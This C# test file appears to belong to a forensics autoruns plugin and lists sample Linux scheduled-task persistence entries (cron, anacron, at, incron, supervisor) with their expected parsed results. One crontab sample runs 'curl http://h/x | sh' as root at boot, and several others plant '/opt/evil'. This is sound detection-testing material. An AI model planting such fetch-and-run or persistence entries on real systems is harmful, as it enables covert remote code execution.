namespace Forensics.Plugins.Autoruns.Tests.Sources;

/// <summary>Started by the clock or by a change.</summary>
internal static class TimePlants
{
    private const int Executable = 0x1ed;

    private const string AtJob = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nHOME=/home/alice; export HOME\ncd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/opt/evil --at\n";

    public static Plant[] All { get; } =
    [
        new("cron", "etc/crontab", "# a\nSHELL=/bin/sh\n\n*/5 * * * * alice /opt/x --now\n") { Line = 4, Command = "/opt/x --now", Target = "/opt/x", Trigger = "at */5 * * * *", RunAs = "alice" },
        new("cron", "etc/crontab", "@reboot root curl http://h/x | sh\n") { Line = 1, Command = "curl http://h/x | sh", Target = "/usr/bin/curl", Trigger = "boot", RunAs = "root" },
        new("cron", "etc/cron.d/job", "PATH=/opt/bin\n-1 2 3 jan sun\troot  [ -x /x ] && tool >/dev/null 2>&1\n") { Also = [("opt/bin/tool", "")], Line = 2, Command = "[ -x /x ] && tool >/dev/null 2>&1", Target = "/opt/bin/tool", Trigger = "at 1 2 3 jan sun", RunAs = "root" },
        new("cron", "var/spool/cron/crontabs/alice", "@daily $HOME/bin/a%stdin\n") { Line = 1, Command = "$HOME/bin/a", Target = "/home/alice/bin/a", Trigger = "at @daily", RunAs = "alice" },
        new("cron", "var/spool/cron/root", "0 0 * * * date +\\%F > /tmp/x; /opt/y\n") { Line = 1, Command = "date +%F > /tmp/x; /opt/y", Target = null, Trigger = "at 0 0 * * *", RunAs = "root" },
        new("cron", "etc/cron.d/other", "0 0 * * * nobody9 /opt/y\n") { Line = 1, Command = "/opt/y", Target = "/opt/y", Trigger = "at 0 0 * * *", RunAs = "nobody9", Enabled = null },
        new("cron", "etc/cron.d/latin", "0 0 * * * root /opt/\u00fcb\n") { Line = 1, Command = "/opt/\ufffdb", Target = "/opt/\ufffdb", Trigger = "at 0 0 * * *", RunAs = "root" },
        new("cron", "etc/cron.d/job.dpkg-old", "0 0 * * * root /opt/y\n") { IsNearMiss = true },
        new("cron", "etc/cron.d/writable", "0 0 * * * root /opt/y\n") { IsNearMiss = true, Mode = 0x1b6 },
        new("cron", "etc/crontab", "# 0 0 * * * root /opt/y\n0 0 * root\n@sometimes root /x\n* * * * root\n") { IsNearMiss = true },
        new("cron", "var/spool/cron/crontabs/mallory", "0 0 * * * /opt/y\n") { IsNearMiss = true },
        new("cron-script", "etc/cron.daily/job", "x") { Mode = Executable, Command = "/etc/cron.daily/job", Target = "/etc/cron.daily/job", Trigger = "daily", RunAs = "root" },
        new("cron-script", "etc/cron.hourly/link", null) { Link = "/opt/script", Also = [("opt/script", "")], Command = "/etc/cron.hourly/link", Target = "/etc/cron.hourly/link", Trigger = "hourly", RunAs = "root", Enabled = false },
        new("cron-script", "etc/cron.weekly/job.sh", "x") { Mode = Executable, IsNearMiss = true },
        new("cron-script", "etc/cron.weekly/job", "x") { IsNearMiss = true },
        new("cron-script", "etc/cron.weekly/.placeholder", "x") { IsNearMiss = true },
        new("anacron", "etc/anacrontab", "START_HOURS_RANGE=3-22\n7\t25\tcron.weekly\tnice run-it /etc/cron.weekly\n1 5 evil /opt/evil\n") { Line = 3, Entry = "evil", Command = "/opt/evil", Target = "/opt/evil", Trigger = "every 1 days, 5 minutes after anacron", RunAs = "root" },
        new("anacron", "etc/anacrontab", "one 5 evil /opt/evil\n") { IsNearMiss = true },
        new("at", "var/spool/cron/atjobs/a00003018c2a51", AtJob) { Mode = 0x1c0, Line = 10, Entry = "3 in queue a", Command = "/opt/evil --at", Target = "/opt/evil", Trigger = "at 2019-05-13T22:09Z", RunAs = "alice" },
        new("at", "var/spool/at/b000ff018c2a51", AtJob) { Mode = 0x180, IsNearMiss = true },
        new("at", "var/spool/at/.SEQ", "3") { IsNearMiss = true },
        new("incron", "var/spool/incron/alice", "/tmp IN_CREATE /opt/evil $#\n") { Line = 1, Command = "/opt/evil $#", Target = "/opt/evil", Trigger = "IN_CREATE of /tmp", RunAs = "alice" },
        new("incron", "etc/incron.d/x", "# /tmp IN_CREATE /opt/evil\n/tmp IN_CREATE\n") { IsNearMiss = true },
        new("supervisor", "etc/supervisor/conf.d/a.conf", "[program:evil]\ncommand=/opt/evil -d\nuser=alice\n") { Line = 2, Entry = "evil", Command = "/opt/evil -d", Target = "/opt/evil", Trigger = "start of supervisord", RunAs = "alice" },
        new("supervisor", "etc/supervisor/conf.d/b.conf", "[program:evil]\ncommand=/opt/evil\nautostart=false\n;[program:x]\n[group:y]\ncommand=/z\n") { IsNearMiss = true },
    ];
}
